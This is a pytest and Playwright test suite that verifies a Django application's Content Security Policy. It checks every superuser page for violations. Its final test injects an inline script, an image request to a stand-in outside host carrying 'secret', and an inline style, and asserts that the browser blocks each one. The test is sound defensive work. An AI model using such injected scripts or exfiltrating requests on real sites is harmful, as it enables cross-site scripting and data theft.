"""The policy for browsers: in force on every page, and no page of ours or of Django's breaks it."""

from __future__ import annotations

import os
import shutil
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, sync_playwright
from pytest_django.live_server_helper import LiveServer

from tests.channels.security_world import SUPERUSER, World, make_world
from tests.channels.table import ROWS

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
WATCH = """
window.broken = [];
document.addEventListener("securitypolicyviolation", (event) => window.broken.push(
  `${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""

pytestmark = [
    pytest.mark.django_db(transaction=True),
    pytest.mark.skipif(CHROMIUM is None, reason="NO CHROMIUM: the policy was not tried"),
]


@pytest.fixture
def world() -> World:
    return make_world()


@pytest.fixture
def screen(
    world: World, live_server: LiveServer, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Page]:
    # Playwright keeps an event loop in this thread, which Django takes for an asynchronous caller.
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "1")
    assert os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        context = browser.new_context(base_url=live_server.url)
        session = world.callers[SUPERUSER].client.cookies["sessionid"].value
        context.add_cookies([{"name": "sessionid", "value": session, "url": live_server.url}])
        context.add_init_script(WATCH)
        yield context.new_page()
        browser.close()


def _pages(world: World) -> Iterator[str]:
    """One address of each page of the table of channels that shows a superuser HTML."""
    seen = set()
    for row in ROWS:
        for ask in row.asks(world.here):
            kind = ask.path.partition("?")[0]
            if kind.endswith(("/add/", "/delete/", "/history/")):
                kind = kind.rpartition("/")[0].rpartition("/")[2]  # one template for all tables
            if ask.method == "GET" and kind not in seen:
                seen.add(kind)
                answer = world.callers[SUPERUSER].send(ask)
                html = answer.headers.get("Content-Type", "").startswith("text/html")
                if html and answer.status == 200:
                    yield ask.path


@pytest.fixture
def paths(world: World) -> list[str]:
    # Before there is a browser: beside its event loop, Django opens a connection that none closes.
    return [*_pages(world), "/logs/hosts/1/"]


def test_no_page_breaks_the_policy(paths: list[str], screen: Page) -> None:
    faults: list[str] = []
    screen.on("pageerror", lambda error: faults.append(str(error)))
    for path in paths:
        screen.goto(path)
        if path == "/docs/api/":
            screen.locator(".opblock").first.click()
        faults += [f"{path}: {broken}" for broken in screen.evaluate("window.broken")]
    assert faults == []
    assert len(paths) >= 35


def test_what_a_page_would_smuggle_in_is_not_run(screen: Page) -> None:
    screen.goto("/logs/")
    screen.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.owned = true";
          document.body.append(script);
          const image = document.createElement("img");
          image.src = "https://elsewhere.example/?secret";
          document.body.append(image);
          document.body.insertAdjacentHTML("beforeend", "<p style='color:red'>x</p>");
        }"""
    )
    screen.wait_for_function("window.broken.length >= 3")
    assert screen.evaluate("window.owned") is None
    kinds = {broken.split()[0] for broken in screen.evaluate("window.broken")}
    assert kinds == {"script-src-elem", "img-src", "style-src-attr"}
